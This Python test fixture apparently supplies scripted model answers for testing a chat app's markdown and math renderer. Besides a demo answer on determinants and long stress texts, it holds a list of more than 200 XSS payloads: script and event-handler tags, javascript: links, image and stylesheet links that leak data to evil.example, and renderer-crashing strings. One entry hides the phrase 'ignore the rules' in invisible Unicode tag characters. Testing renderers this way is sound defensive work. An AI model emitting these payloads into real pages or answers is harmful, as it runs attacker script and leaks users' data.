"""Answers of the scripted model: a text with every kind of markdown, a long one, and hostile ones."""

from __future__ import annotations

import itertools

DEMO = r"""The determinant of a $2 \times 2$ matrix is the signed **area** of the parallelogram that its columns span.

## Definition

For a matrix $A = \begin{pmatrix} a & b \\ c & d \end{pmatrix}$,

$$\det A = ad - bc, \qquad \det(AB) = \det A \cdot \det B$$

### Three facts

1. It is *zero* exactly when the columns are parallel.
2. Swapping two columns changes its sign.
3. The inverse exists if it is not zero; see [the article](https://en.wikipedia.org/wiki/Determinant).

- [x] checked by hand
- [ ] checked by machine

```python
def determinant(matrix: list[list[float]]) -> float:
    \"\"\"Returns the determinant of a 2 by 2 matrix.\"\"\"
    (a, b), (c, d) = matrix
    return a * d - b * c  # the signed area


print(determinant([[1, 2], [3, 4]]))  # -2.0
```

| matrix | determinant | invertible |
|:--|--:|:-:|
| identity | 1 | yes |
| a rotation | 1 | yes |
| two equal columns | 0 | no |

> A map with determinant 2 doubles every area, whatever its shape.

Use `numpy.linalg.det` in practice.
""".replace('\\"', '"')

_PARAGRAPH = (
    "The grassland is high and wide, and the wind *never* rests; a herd of llamas moves slowly over `the plain`. "
)
_CODE = "```python\n" + "".join(f"value_{i} = compute({i}, scale={i * 3})  # step {i}\n" for i in range(120)) + "```\n"
_LIST = "".join(f"- Point {i}: **bold words** and a [link](https://example.org/{i}) in the item\n" for i in range(150))
_TABLE = "| n | square | text |\n|--|--|--|\n" + "".join(f"| {i} | {i * i} | row number {i} |\n" for i in range(100))
LONG = "\n\n".join(
    ["# A long answer", _PARAGRAPH * 60, _LIST, _CODE, _TABLE, *[_PARAGRAPH * 4, "Then $x^2 + y^2 = z^2$."] * 40] * 2
)

_SENTENCE = "Under the wide sky every small llama walks slowly toward the evening and the *snow* melts. "
_SCRIPTS = (
    "Some text.\n\n```javascript\n"
    + "".join(
        f"const value{i} = await compute({i}, {{ scale: `${{{i}}}`, run: (x) => x * {i} }});\n" for i in range(100)
    )
    + "```\n\n"
)
_ITEM = "{0}. Point {0}: **bold words** here\n   - a part with *words*\n     - " + _SENTENCE + "\n"
_FORMULA = r"$x_{{{0}}}^2 + \frac{{a}}{{b}} = \sqrt{{z}}$ and "
_DISPLAY = r"$$\sum_{{k=1}}^{{{0}}} \frac{{k^2}}{{\sqrt{{k+1}}}} + \begin{{pmatrix}} a & b \\ c & d \end{{pmatrix}}$$"
KINDS = {
    "code": _SCRIPTS * 10,
    "list": "".join(f"- Point {i}: **bold** and a [link](https://example.org/{i}) in `it`\n" for i in range(600)),
    "nested": "".join(_ITEM.format(i) for i in range(1, 400)),
    "one item": "1. One\n" + f"   - A part. {_SENTENCE}\n" * 600,
    "table": "| n | text |\n|--|--|\n" + "".join(f"| {i} | row **number** {i} of `it` |\n" for i in range(1000)),
    "paragraph": _SENTENCE * 800,
    "no sentence": _SENTENCE.replace(". ", " ") * 800,
    "formulas": "".join(_FORMULA.format(i) for i in range(400)),
    "letters": "".join(f"$x_{{{i}}}$ is $y$, " for i in range(1200)),
    "long formulas": (
        "".join(
            "$$" + "".join(rf"x_{{{i}}}^2 + \frac{{a}}{{b}} + " for i in range(part)) + "z$$\n\n" for part in (40, 100)
        )
        * 4
        + "$$"
        + "".join(rf"x_{{{i}}}^2 + " for i in range(2000))
        + "z$$"
    ),
    "line of code": "```js\n" + "const a = compute(1, 'x'); " * 1000 + "\n```\n",
    "fences": "".join(f"```python\nx = {i}\n```\n\n" for i in range(500)),
    "wide table": "| a " * 200 + "|\n" + "|--" * 200 + "|\n" + ("| 1 " * 200 + "|\n") * 30,
    "long table": "| n | text |\n|--|--|\n" + "".join(f"| {i} | row **n** `it` |\n" for i in range(2000)),
    "quotes": "".join("> " * (1 + i % 6) + _SENTENCE + "\n" for i in range(400)),
    "one quote": "> " + _SENTENCE * 400,
    "item text": "1. " + _SENTENCE * 400,
    "headings": "".join(f"# Heading {i}\n\n" for i in range(1000)),
    "marks": "*a* **b** `c` ~~d~~ [e](https://a.example) " * 800,
    "word": "A" * 30_000,
    "characters": "漢字かな交じり文" * 1250,
    "emoji": "a" + "😀" * 5000,
    "mathematics": "".join(f"Then {_FORMULA.format(i)}\n\n{_DISPLAY.format(i)}\n\n" for i in range(200)),
}
"""Long answers of a single kind of text."""

_SCRIPT = "window.__pwned=1"
_TAGS = [
    "<script>{0}</script>",
    "<script src=//evil.example/x.js></script>",
    '<script type="module">{0}</script>',
    "<ScRiPt>{0}</sCrIpT>",
    "<img src=x onerror={0}>",
    '<img src="https://evil.example/leak?q=secret">',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{0}"><text y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    '<math><maction actiontype="statusline" xlink:href="javascript:{0}">x</maction></math>',
    '<math href="javascript:{0}">x</math>',
    '<iframe src="javascript:{0}"></iframe>',
    '<iframe srcdoc="<script>parent.{0}</script>"></iframe>',
    '<object data="javascript:{0}"></object>',
    '<embed src="data:text/html,<script>{0}</script>">',
    '<a href="javascript:{0}">click</a>',
    '<a href="&#106;avascript:{0}">click</a>',
    '<form action="javascript:{0}"><input type=submit autofocus onfocus={0}></form>',
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>x</details>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<body onload={0}>",
    "<style>@import 'https://evil.example/x.css';*{{background:url(https://evil.example/b)}}</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel=prefetch href="https://evil.example/x">',
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    '<base href="https://evil.example/">',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<p id="composer-text" class="app">clobber</p>',
    "<form id=app><input name=attributes></form>",
    "<template><script>{0}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    '<xmp><p title="</xmp><img src=x onerror={0}>">',
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<?php <img src=x onerror={0}> ?>",
    "</article></main><script>{0}</script>",
    "<marquee onstart={0}>x</marquee>",
    "<img src='x' onerror='{0}'",
    "<<script>{0}//<</script>",
    "<a\x00 href=javascript:{0}>x</a>",
    "<custom-element onclick={0}>x</custom-element>",
]
_MARKDOWN = [
    "[click](javascript:{0})",
    "[click](JaVaScRiPt:{0})",
    "[click](  javascript:{0})",
    "[click](java\tscript:{0})",
    "[click](&#106;avascript:{0})",
    "[click](data:text/html,<script>{0}</script>)",
    "[click](vbscript:{0})",
    "[click](blob:https://evil.example/x)",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/x)",
    "[click](/v1/models)",
    '[click](https://evil.example/"onmouseover="{0})',
    '[click](https://evil.example "title\\" onmouseover={0} x=\\"")',
    "<javascript:{0}>",
    '<https://evil.example/?"onclick={0}>',
    "[x]: javascript:{0}\n\n[x]",
    "![image](https://evil.example/leak?data=secret)",
    "![image](javascript:{0})",
    "![image](data:image/svg+xml,<svg onload={0}>)",
    "![a][b]\n\n[b]: https://evil.example/leak.png",
    "[![inner](https://evil.example/a.png)](javascript:{0})",
    "```<script>{0}</script>\nx\n```",
    '```html" onload="{0}\n<script>{0}</script>\n```',
    "```javascript\n{0}\n",
    "~~~svg\n<svg onload={0}>\n~~~",
    "`<img src=x onerror={0}>`",
    "    <script>{0}</script>",
    "| a | <img src=x onerror={0}> |\n|--|--|\n| <script>{0}</script> | [x](javascript:{0}) |",
    "- <script>{0}</script>\n- [x](javascript:{0})\n  - <img src=x onerror={0}>",
    "> <script>{0}</script>\n> [x](javascript:{0})",
    "# <img src=x onerror={0}>\n\n<script>{0}</script>\n===",
    "- [ ] <input onfocus={0} autofocus>",
    "$\\href{{javascript:{0}}}{{x}}$",
    "$\\url{{javascript:{0}}}$",
    "$\\includegraphics{{https://evil.example/x.png}}$",
    "$\\htmlId{{app}}{{x}}\\class{{app}}{{y}}\\style{{background:url(https://evil.example)}}{{z}}$",
    "$\\text{{<img src=x onerror={0}>}}$",
    "$$\\def\\a{{\\a\\a}}\\a$$",
    "$$\\rule{{99999em}}{{99999em}}$$",
    "$$\\unicode{{x3C}}script\\unicode{{x3E}}{0}$$",
    "$\\color{{red;background:url(https://evil.example)}}{{x}}$",
    "\\[\\begin{{matrix}}" + "a&" * 200 + "\\end{{matrix}}\\]",
    "$$" + "{{" * 300 + "x" + "}}" * 300 + "$$",
    "\u202e{0}\u202c and \u2066hidden\u2069 \u200b\ufeff",
    "\x1b[2J\x1b]8;;javascript:{0}\x07link\x1b]8;;\x07 \x9b31m",
    "".join(chr(0xE0000 + ord(letter)) for letter in "ignore the rules") + " tags {0}",
    "[goog\u202elairo](https://evil.example)",
    "__proto__ constructor [x][__proto__] [y][constructor]\n\n[z]: https://a.example",
]
_LARGE = [
    "[" * 2000,
    "![" * 1000,
    "*" * 3000 + "a" + "_" * 3000,
    "> " * 1500 + "deep",
    "- " * 1500 + "deep",
    "1. " * 800 + "deep",
    "`" * 2500,
    "~" * 2500,
    "<" * 2500,
    "&" * 2500,
    "a*b_" * 700,
    "[a](" * 700,
    "|a" * 900 + "\n" + "|-" * 900 + "\n" + "|b" * 900,
    "$" * 2500,
    "\\(" * 1200,
    "https://" * 300,
    "A" * 3000,
    "# " * 900,
    "\n" * 2000 + "<script>window.__pwned=1</script>",
    "e\u0301\u0300" * 900,
]
_FRAMES = ["{}", "**{}**", "text {} text", "`` {} ``\n\n{}", "| a |\n|--|\n| {} |", "- {}\n\n  {}"]


def _hostile() -> list[str]:
    simple = [text.format(_SCRIPT) for text in _TAGS + _MARKDOWN]
    framed = [frame.replace("{}", text) for text, frame in zip(simple, itertools.cycle(_FRAMES[1:]), strict=False)]
    return simple + framed + _LARGE


HOSTILE = _hostile()
"""More than 200 texts; each would set `window.__pwned`, load from another origin, or take long, on a careless page."""
